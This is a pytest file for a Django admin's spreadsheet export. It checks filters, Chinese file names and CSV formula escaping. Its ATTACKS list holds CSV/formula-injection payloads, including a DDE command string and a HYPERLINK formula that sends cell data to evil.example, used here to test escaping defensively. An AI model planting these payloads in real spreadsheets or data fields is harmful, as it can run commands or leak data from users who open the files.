"""The admin's export button (django-import-export) exports what the filtered task list shows."""

import codecs
import csv
import datetime
import io
from urllib.parse import quote

import openpyxl
import pytest
import time_machine
from django.urls import reverse

from tasks.models import Task


def export(client, url: str, query: str) -> list[tuple]:
    form = client.get(f"{url}export/?{query}")
    assert form.status_code == 200
    formats = dict((label, value) for value, label in form.context["form"].fields["format"].choices)
    response = client.post(
        f"{url}export/?{query}", {"format": formats["xlsx"], "resource": 0, **selected(form)}
    )
    assert response.status_code == 200, response.content[:500]
    wb = openpyxl.load_workbook(io.BytesIO(response.content))
    return [row for row in wb.active.iter_rows(values_only=True)]


def selected(form) -> dict:
    """Tick every field checkbox the export form offers (what a user sees by default)."""
    return {
        name: "on"
        for name, field in form.context["form"].fields.items()
        if field.__class__.__name__ == "BooleanField"
    }


@pytest.fixture
def done_science_task(science_task):
    science_task.status = Task.Status.DONE
    science_task.save()
    return science_task


def test_task_export_honours_the_admin_filters(client, lead, finance_task, done_science_task):
    client.force_login(lead)
    url = reverse("admin:tasks_task_changelist")
    everything = export(client, url, "")
    assert everything[0][:4] == ("id", "计划", "序号", "措施")
    assert len(everything) == 3
    done = export(client, url, "status__exact=done")
    assert [row[4] for row in done[1:]] == ["区科技局"]
    assert done[1][9] == "已办结"
    searched = export(client, url, "q=金融")
    assert [row[4] for row in searched[1:]] == ["区金融局"]


def post_export(client, url: str, fmt: str, query: str = ""):
    form = client.get(f"{url}export/?{query}")
    formats = dict((label, value) for value, label in form.context["form"].fields["format"].choices)
    response = client.post(f"{url}export/?{query}", {"format": formats[fmt], "resource": 0, **selected(form)})
    assert response.status_code == 200, response.content[:500]
    return response


ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "-12% 同比下降",
    "@SUM(A1)",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_task_export_xlsx_keeps_formula_text_as_a_plain_string(client, lead, finance_task, measure, attack):
    measure.text = attack
    measure.save()
    client.force_login(lead)
    response = post_export(client, reverse("admin:tasks_task_changelist"), "xlsx")
    wb = openpyxl.load_workbook(io.BytesIO(response.content))
    ws = wb.active
    assert ws.title == "任务"
    cell = ws.cell(row=2, column=4)
    assert cell.value == attack  # shown as typed: no apostrophe, nothing stripped
    assert cell.data_type == "s"
    due = ws.cell(row=2, column=8)
    assert due.value == datetime.datetime(2021, 12, 31) and due.is_date  # a real date cell


@time_machine.travel(datetime.datetime(2026, 12, 1, 20, 0, tzinfo=datetime.UTC))  # 12-02 in Shanghai
def test_task_export_file_names_are_chinese_with_the_local_date(client, lead, finance_task):
    client.force_login(lead)
    url = reverse("admin:tasks_task_changelist")
    for fmt in ("xlsx", "csv"):
        disposition = post_export(client, url, fmt)["Content-Disposition"]
        assert "20261202" in disposition and "Task" not in disposition
        assert quote(f"任务-20261202.{fmt}") in disposition or f"任务-20261202.{fmt}" in disposition


def test_task_export_csv_has_a_bom_and_apostrophes(client, lead, finance_task, measure):
    measure.text = ATTACKS[0]
    measure.save()
    client.force_login(lead)
    response = post_export(client, reverse("admin:tasks_task_changelist"), "csv")
    assert response.content.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:4] == ["id", "计划", "序号", "措施"]
    assert rows[1][3] == "'" + ATTACKS[0]
    assert rows[1][7] == "2021-12-31"


def test_division_table_export_is_safe_in_both_formats(client, lead, finance_task, measure):
    measure.text = ATTACKS[1]
    measure.save()
    client.force_login(lead)
    url = reverse("admin:tasks_measure_changelist")
    wb = openpyxl.load_workbook(io.BytesIO(post_export(client, url, "xlsx").content))
    ws = wb.active
    assert ws.title == "措施"
    texts = [c for row in ws.iter_rows() for c in row if c.value == ATTACKS[1]]
    assert texts and all(c.data_type == "s" for c in texts)
    content = post_export(client, url, "csv").content
    assert content.startswith(codecs.BOM_UTF8)
    assert any(r and "'" + ATTACKS[1] in r for r in csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_agency_export_honours_the_admin_filters(client, superuser, finance, science, market):
    science.is_confirmed = False
    science.save()
    client.force_login(superuser)
    rows = export(client, reverse("admin:agencies_agency_changelist"), "is_confirmed__exact=0")
    assert [row[0] for row in rows[1:]] == ["区科技局"]


def test_agency_export_is_safe_too(client, superuser, finance):
    finance.short_name = '=HYPERLINK("http://evil")'
    finance.save()
    client.force_login(superuser)
    url = reverse("admin:agencies_agency_changelist")
    ws = openpyxl.load_workbook(io.BytesIO(post_export(client, url, "xlsx").content)).active
    assert ws.title == "单位"
    cells = [c for row in ws.iter_rows() for c in row if c.value == finance.short_name]
    assert cells and all(c.data_type == "s" for c in cells)
    content = post_export(client, url, "csv").content
    assert content.startswith(codecs.BOM_UTF8) and b"'=HYPERLINK" in content
